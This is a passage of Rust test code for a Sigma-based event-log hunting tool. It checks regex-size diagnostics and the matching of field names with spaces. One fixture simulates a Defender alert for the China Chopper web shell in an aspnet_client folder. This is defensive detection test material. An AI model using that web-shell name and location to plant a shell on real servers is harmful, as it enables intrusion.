            .any(|d| d.level == exhunt_core::rules::DiagnosticLevel::Error
                && d.message.contains("forwarded.yml")),
        "{diags:#?}"
    );
}

/// Sigma regexes compile on first use. One too big to compile (here only in Unicode mode, which
/// values that are not ASCII need) is reported by the scan that needed it, and by the rule
/// check that compiles everything — never silently dropped.
#[test]
fn a_sigma_regex_too_big_to_compile_is_reported_where_it_was_needed() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("big_regex.yml"),
        r"title: Huge regex
id: 6b7c2f9e-1d2a-4c55-9f0e-7a1b2c3d4e5f
status: test
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|re: '(?:\w{100}){100}'
    condition: selection
level: high
",
    )
    .unwrap();
    let hunter = EventHunter::new(
        &RuleSet::default(),
        EventArgs {
            sigma: vec![rules.clone()],
            sigma_mapping: None,
            no_events: false,
        }
        .options(),
    );
    assert_eq!(hunter.rule_count(), 1, "{:#?}", hunter.diagnostics());
    let too_big = |d: &exhunt_core::rules::RuleDiagnostic| {
        d.rule_id.as_deref() == Some("SIGMA-6b7c2f9e-1d2a-4c55-9f0e-7a1b2c3d4e5f")
            && d.message.contains("cannot be compiled")
    };
    assert!(
        !hunter.diagnostics().iter().any(too_big),
        "not compiled at load"
    );

    let scan = |command_line: &str| {
        let evidence = dir.path().join(format!("evidence-{}", command_line.len()));
        write_server(
            &evidence,
            "EX01",
            &[(
                "Microsoft-Windows-Sysmon%4Operational.evtx",
                vec![sysmon1(
                    1,
                    r"C:\Windows\explorer.exe",
                    r"C:\Windows\System32\cmd.exe",
                    command_line,
                )],
            )],
        );
        scan_with(
            &ScanConfig::new(&evidence),
            &RuleSet::default(),
            &[&hunter as &dyn Hunter],
        )
        .unwrap()
    };
    // ASCII values are matched by the pattern compiled without Unicode, which is small.
    let ascii = scan(&"a".repeat(10_050));
    assert_eq!(ascii.findings.len(), 1, "{:#?}", ascii.rule_diagnostics);
    assert!(!ascii.rule_diagnostics.iter().any(too_big));
    // A value that is not ASCII needs the Unicode form, which is over the size limit.
    let unicode = scan(&"é".repeat(10_050));
    assert!(
        unicode.rule_diagnostics.iter().any(too_big),
        "{:#?}",
        unicode.rule_diagnostics
    );
    // Then the ASCII form runs on the value's bytes: one padding character does not switch
    // the test off.
    let padded = scan(&format!("{}\u{a0}", "a".repeat(10_050)));
    assert_eq!(padded.findings.len(), 1, "{:#?}", padded.rule_diagnostics);
    // `exhunt rules` compiles every regex.
    assert!(hunter.check_regexes().iter().any(too_big));
}

/// Sigma field names with spaces (`Threat Name`) are the event's field without spaces, for the
/// literal index as for matching.
#[test]
fn a_sigma_field_name_with_spaces_is_indexed_and_matched() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    let rule = std::fs::read_to_string(fixture("sigma/win_defender_threat_name.yml"))
        .unwrap()
        .replace("ThreatName|contains", "Threat Name|contains");
    std::fs::write(rules.join("spaced.yml"), rule).unwrap();
    // The same rule naming its field `Malware`, with a user mapping that renames it to the
    // spaced name: the rename is keyed as events key their fields too.
    let renamed = dir.path().join("renamed");
    std::fs::create_dir(&renamed).unwrap();
    let rule = std::fs::read_to_string(fixture("sigma/win_defender_threat_name.yml"))
        .unwrap()
        .replace("ThreatName|contains", "Malware|contains");
    std::fs::write(renamed.join("renamed.yml"), rule).unwrap();
    let mapping = dir.path().join("mapping.yml");
    let embedded = include_str!("../data/sigma-mapping.yml");
    assert!(embedded.contains("\nfields:\n"));
    std::fs::write(
        &mapping,
        embedded.replacen("\nfields:\n", "\nfields:\n  Malware: Threat Name\n", 1),
    )
    .unwrap();
    for (folder, sigma_mapping) in [(rules, None), (renamed, Some(mapping))] {
        let hunter = EventHunter::new(
            &RuleSet::default(),
            EventArgs {
                sigma: vec![folder.clone()],
                sigma_mapping,
                no_events: false,
            }
            .options(),
        );
        assert_eq!(hunter.rule_count(), 1, "{:#?}", hunter.diagnostics());
        assert_spaced_field_matches(dir.path(), &hunter, &folder);
    }
}

fn assert_spaced_field_matches(dir: &Path, hunter: &EventHunter, folder: &Path) {
    let evidence = dir.join("evidence");
    write_server(
        &evidence,
        "EX01",
        &[(
            "Microsoft-Windows-Windows Defender%4Operational.evtx",
            vec![WriterEvent::new(
                "Microsoft-Windows-Windows Defender/Operational",
                "Microsoft-Windows-Windows Defender",
                1116,
                "EX01",
                t(14),
                &[
                    ("Threat Name", "Backdoor:ASP/Chopper.F!dha"),
                    ("Path", r"file:_C:\inetpub\wwwroot\aspnet_client\a.aspx"),
                ],
            )],
        )],
    );
    let report = scan_with(
        &ScanConfig::new(&evidence),
        &RuleSet::default(),
        &[hunter as &dyn Hunter],
    )
    .unwrap();
    assert_eq!(
        report.findings.len(),
        1,
        "{}: {:#?}",
        folder.display(),
        report.findings
    );
}
